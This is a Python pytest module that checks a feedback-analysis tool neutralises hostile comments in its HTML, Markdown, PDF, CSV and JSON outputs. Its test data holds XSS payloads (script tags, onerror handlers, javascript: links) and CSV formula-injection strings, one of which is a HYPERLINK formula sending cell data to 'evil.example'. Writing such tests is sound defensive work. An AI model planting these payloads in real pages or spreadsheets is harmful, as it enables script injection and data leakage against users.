"""Hostile content: stored verbatim, shown inert in every output (HTML, Markdown, PDF, CSV, JSON).

Hostile comments arrive two ways: a CSV imported with ``joinfeedback import`` (the table ``CASES`` below)
and the replica's own hostile comments (label kind ``hostile``, ``replica.bank_other.HOSTILE``), crawled with
``joinfeedback crawl``. The whole chain then runs as a user would (``analyze``, ``report``, ``export
assignments``, each a subprocess) and every file it wrote is checked: no script, event handler or
``javascript:`` URL from user text reaches a page, Markdown renders to the same safe HTML, PDFs carry no
script actions and show the payload as text, CSV formula cells start with ``'``, JSON keeps text verbatim.
"""

from __future__ import annotations

import csv
import json
import os
import re
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import lxml.html
import pytest
from markdown_it import MarkdownIt

from replica.bank_other import HOSTILE as REPLICA_HOSTILE
from replica.server import ReplicaServer
from reports.exports import FORMULA_PREFIXES
from reports.review import REVIEW_PAGE
from reports.review import SCRIPT as REVIEW_SCRIPT

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[1]
# C0/C1 controls (not tab/newline/CR) and bytes that are not text in any encoding a user means.
JUNK = (
    "".join(map(chr, [1, 2, 7, 8, 11, 12, 14, 27, 127, 128, 133, 150, 159]))
    + "\ufffd\ufeff\u200b\u00ff\u0100þÿØà"
)
LONG_LINE = "資料開放" + "很長的一行文字" * 15_000 + "結束"  # ~105 K characters, no newline

# (id, text, author): what the CSV holds; the database must hold exactly this (the importer strips only
# surrounding whitespace, and none of these have any).
CASES: tuple[tuple[str, str, str], ...] = (
    (
        "h-script",
        "<script>alert('x')</script>我們要求政府盡快完成資料開放專法的立法。",
        "<b onmouseover=alert(1)>作者</b>",
    ),
    ("h-img", '<img src=x onerror="alert(1)">開放資料平台應提供更多機關的資料集。', "作者"),
    (
        "h-jslink",
        '<a href="javascript:alert(document.cookie)">點我</a> javascript:alert(1) 資料開放要有法源。',
        "作者",
    ),
    ("h-svg", "<svg/onload=alert(1)><iframe src=javascript:alert(1)></iframe>資料開放", "作者"),
    (
        "h-style",
        '<style>body{display:none}</style><div style="background:url(javascript:alert(1))">樣式</div>',
        "作者",
    ),
    ("h-entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp; 已轉義的也要照原樣", "作者"),
    (
        "h-controls",
        "控制字元\x01\x07\x1b[31m紅字\x1b[0m與\x0b垂直定位\x0c換頁\x7f刪除，公投電子連署系統應上線。",
        "作者",
    ),
    ("h-rlo", "請看附件 \u202egnp.exe 與 \u202d正常\u202c 文字，公民參與應該更透明。", "\u202eevil"),
    ("h-junk", "二進位雜訊" + JUNK + "結束，政府資料開放。", "作者"),
    ("h-longline", LONG_LINE, "作者"),
    (
        "h-hyperlink",
        '=HYPERLINK("http://evil.example/?x="&A1,"點我看資料開放")',
        '=HYPERLINK("http://evil.example")',
    ),
    ("h-plus", "+cmd|' /C calc'!A0 資料開放專法", "+作者"),
    ("h-at", "@SUM(1+1)*cmd|' /C calc'!A0 公投連署", "@作者"),
    ("h-minus", "-1+1 開放政府行動方案", "-1+1"),
    (
        "h-markdown",
        "# 標題 [連結](javascript:alert(1)) ![img](x onerror=alert(1)) **粗體** | 表格 | <b>",
        "作者",
    ),
)
# Copies of one payload form a campaign and a theme, so that it is certainly quoted in pages and briefs.
COPIES = tuple((f"h-copy-{i}", f"{CASES[0][1]}第{i}號", "簽名") for i in range(12))
TEXTS = {item_id: text for item_id, text, _ in CASES + COPIES}

# Fragments of user payloads that must never be live: in an attribute, a script/style body or a URL.
PAYLOAD_MARKERS = ("alert(", "evil.example", "display:none", "calc'")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}
FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "frame", "frameset", "base", "form", "input"}
RAW_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@dataclass(frozen=True, slots=True)
class Chain:
    db: Path
    report: Path
    export: Path


def _cli(args: list[str], cwd: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("JOINFEEDBACK_")}
    result = subprocess.run(
        [sys.executable, "-m", "joinfeedback", "--quiet", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert result.returncode == 0, f"{args[0]}: {result.stderr[-2000:]}"


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory) -> Chain:
    """CSV import + replica crawl → analyze → report → export, all through the real command."""
    work = tmp_path_factory.mktemp("hostile")
    source = work / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text", "author", "created_at", "url"])
        for item_id, text, author in CASES + COPIES:
            writer.writerow([item_id, text, author, "2020-03-01T10:00:00+08:00", ""])
    db = work / "jf.db"
    url = f"sqlite:///{db}"
    _cli(["import", str(source), "--db", url], work)
    with ReplicaServer(seed=1, size="small") as replica:
        _cli(["crawl", "--base-url", replica.base_url, "--profile", "local", "--db", url], work)
    _cli(["analyze", "--db", url], work)
    _cli(["report", "--db", url, "--out", str(work / "report")], work)
    _cli(["export", "assignments", "--db", url, "--out", str(work / "assignments.csv")], work)
    return Chain(db, work / "report", work / "assignments.csv")


# ------------------------------------------------------------------------------------------ storage


@pytest.mark.parametrize(("item_id", "text", "author"), CASES, ids=[c[0] for c in CASES])
def test_imported_text_is_stored_verbatim(chain: Chain, item_id: str, text: str, author: str) -> None:
    with sqlite3.connect(chain.db) as conn:
        row = conn.execute("SELECT text, author FROM imported_item WHERE item_id = ?", (item_id,)).fetchone()
    assert row is not None, item_id
    assert row[0].encode("utf-8") == text.encode("utf-8")
    assert row[1] == author


@pytest.mark.parametrize("html", REPLICA_HOSTILE)
def test_crawled_hostile_comment_is_stored_verbatim(chain: Chain, html: str) -> None:
    """The replica's hostile comments: the served HTML is kept byte for byte beside the extracted text."""
    with sqlite3.connect(chain.db) as conn:
        stored = {r[0] for r in conn.execute("SELECT html FROM comment")}
    assert html in stored


# ------------------------------------------------------------------------------------------ HTML


def _is_review_script(element: Any, where: str) -> bool:
    """The review page's own script: byte for byte the packaged file, without attributes (no src)."""
    return (
        where == REVIEW_PAGE
        and element.tag == "script"
        and not element.attrib
        and element.text == REVIEW_SCRIPT
    )


def _live_problems(root: Any, where: str) -> list[str]:
    """Anything in a parsed document that a payload could have made executable."""
    problems: list[str] = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag in FORBIDDEN_TAGS and not _is_review_script(element, where):
            problems.append(f"{where}: <{tag}> element")
        if tag == "style" and any(m in (element.text or "") for m in PAYLOAD_MARKERS):
            problems.append(f"{where}: payload inside <style>")
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            problems.append(f"{where}: meta refresh")
        for name, value in element.attrib.items():
            short = name.rsplit("}", 1)[-1].lower()
            squeezed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if short.startswith("on"):
                problems.append(f"{where}: <{tag} {short}=…>")
            if short in URL_ATTRIBUTES and squeezed.startswith(("javascript:", "vbscript:", "data:text")):
                problems.append(f"{where}: <{tag} {short}={value[:40]!r}>")
            if any(m in value for m in PAYLOAD_MARKERS):
                problems.append(f"{where}: payload in attribute {short}={value[:60]!r}")
    return problems


def html_pages(chain: Chain) -> list[Path]:
    return sorted(chain.report.rglob("*.html"))


def test_every_page_is_inert(chain: Chain) -> None:
    pages = html_pages(chain)
    assert len(pages) >= 5
    problems = [p for page in pages for p in _live_problems(lxml.html.parse(str(page)).getroot(), page.name)]
    assert problems == []


HTML_SHOWN_AS_TEXT = (
    "<script>alert('x')</script>",  # the campaign: certainly quoted
    "<img src=x onerror=alert(1)>",  # replica hostile comments, quoted as extracted text or not at all
)


def test_payloads_are_shown_as_text(chain: Chain) -> None:
    """Escaped, not dropped: the quoted payload reads as its own characters on the page."""
    texts = "\n".join(lxml.html.parse(str(p)).getroot().text_content() for p in html_pages(chain))
    assert HTML_SHOWN_AS_TEXT[0] in texts
    sources = "\n".join(p.read_text(encoding="utf-8") for p in html_pages(chain))
    assert (
        "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in sources or "&lt;script&gt;alert('x')" in sources
    )


@pytest.mark.parametrize("suffix", [".html", ".md"])
def test_no_raw_control_or_bidi_characters(chain: Chain, suffix: str) -> None:
    """U+202E and friends are shown as visible [U+202E] markers, never emitted raw."""
    offenders = {
        str(p.relative_to(chain.report)): sorted({f"U+{ord(c):04X}" for c in RAW_CONTROLS.findall(text)})
        for p in sorted(chain.report.rglob(f"*{suffix}"))
        if RAW_CONTROLS.search(text := p.read_text(encoding="utf-8"))
    }
    assert offenders == {}


# ------------------------------------------------------------------------------------------ Markdown


def test_markdown_briefs_render_inert(chain: Chain) -> None:
    """Rendered by a CommonMark parser with raw HTML allowed (the worst viewer): still nothing live."""
    renderer = MarkdownIt("commonmark", {"html": True})
    briefs = sorted((chain.report / "briefs").glob("*.md"))
    assert briefs
    problems: list[str] = []
    shown: list[str] = []
    for brief in briefs:
        html = renderer.render(brief.read_text(encoding="utf-8"))
        root = lxml.html.fragment_fromstring(html, create_parent="div")
        problems += _live_problems(root, brief.name)
        shown.append(root.text_content())
        for link in root.iter("a"):
            assert (link.get("href") or "").startswith(("http://", "https://")), (
                brief.name,
                link.get("href"),
            )
    assert problems == []
    assert any(HTML_SHOWN_AS_TEXT[0] in text for text in shown)


# ------------------------------------------------------------------------------------------ PDF


def test_pdf_briefs_show_payloads_as_text_and_hold_no_script(chain: Chain) -> None:
    from pdfminer.high_level import extract_text
    from pypdf import PdfReader

    pdfs = sorted((chain.report / "briefs").glob("*.pdf"))
    assert pdfs
    extracted: list[str] = []
    for path in pdfs:
        raw = path.read_bytes()
        for action in (b"/JavaScript", b"/JS ", b"/JS(", b"/Launch", b"/SubmitForm", b"/OpenAction"):
            assert action not in raw, (path.name, action)
        extracted.append(extract_text(path))  # pdfminer reads WeasyPrint's CJK subsets; pypdf does not
        for page in PdfReader(path).pages:
            for annotation in page.get("/Annots") or []:
                target = annotation.get_object().get("/A") or {}
                uri = str(target.get("/URI", ""))
                assert not uri or uri.startswith(("http://", "https://")), (path.name, uri)
    joined = re.sub(r"\s+", "", "\n".join(extracted))
    assert "<script>alert('x')</script>" in joined


# ------------------------------------------------------------------------------------------ CSV


def _csv_files(chain: Chain) -> list[Path]:
    return [*sorted((chain.report / "data").glob("*.csv")), chain.export]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_csv_neutralises_formula_cells(chain: Chain) -> None:
    """In every CSV the chain wrote, a cell a spreadsheet would evaluate is a number or starts with '."""
    files = _csv_files(chain)
    assert len(files) >= 5
    csv.field_size_limit(10_000_000)
    live: list[str] = []
    for path in files:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for line, row in enumerate(csv.reader(handle), start=1):
                live += [
                    f"{path.name}:{line}: {cell[:30]!r}"
                    for cell in row
                    if cell.startswith(FORMULA_PREFIXES) and not _is_number(cell)
                ]
    assert live == []


@pytest.mark.parametrize(("item_id", "text", "author"), CASES, ids=[c[0] for c in CASES])
def test_export_assignments_keeps_text_apart_from_the_apostrophe(
    chain: Chain, item_id: str, text: str, author: str
) -> None:
    csv.field_size_limit(10_000_000)
    with chain.export.open(encoding="utf-8", newline="") as handle:
        rows = {row["item_id"].split(":", 2)[2]: row for row in csv.DictReader(handle)}  # kind:source:id
    expected = "'" + text if text.startswith(FORMULA_PREFIXES) else text
    assert rows[item_id]["text"] == expected


# ------------------------------------------------------------------------------------------ JSON


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def test_json_tables_are_valid_and_hold_the_csv_values_unneutralised(chain: Chain) -> None:
    """Each table's JSON equals its CSV cell for cell, minus the CSV's protective apostrophe."""
    csv.field_size_limit(10_000_000)
    files = sorted((chain.report / "data").glob("*.json"))
    tables = [path for path in files if path.name != "report.json"]
    assert len(tables) >= 5
    strings: list[str] = []
    for path in tables:
        payload = json.loads(path.read_text(encoding="utf-8"))  # strict: invalid JSON raises
        strings += list(_strings(payload))
        with path.with_suffix(".csv").open(encoding="utf-8-sig", newline="") as handle:
            csv_rows = list(csv.DictReader(handle))
        assert len(csv_rows) == len(payload["rows"]), path.name
        for csv_row, json_row in zip(csv_rows, payload["rows"], strict=True):
            for key, value in json_row.items():
                if isinstance(value, str):
                    cell = csv_row[key]
                    assert cell == ("'" + value if value.startswith(FORMULA_PREFIXES) else value), (path, key)
    assert not [s for s in strings if s.startswith("'") and s[1:].startswith(FORMULA_PREFIXES)]
    # the tables carry terms derived from the payloads (theme keywords, labels), so hostile input did
    # reach them: some word of the hostile markup is there
    hostile_words = ("alert", "script", "onerror", "onload", "javascript", "iframe", "onmouseover")
    assert any(word in s.lower() for s in strings for word in hostile_words)
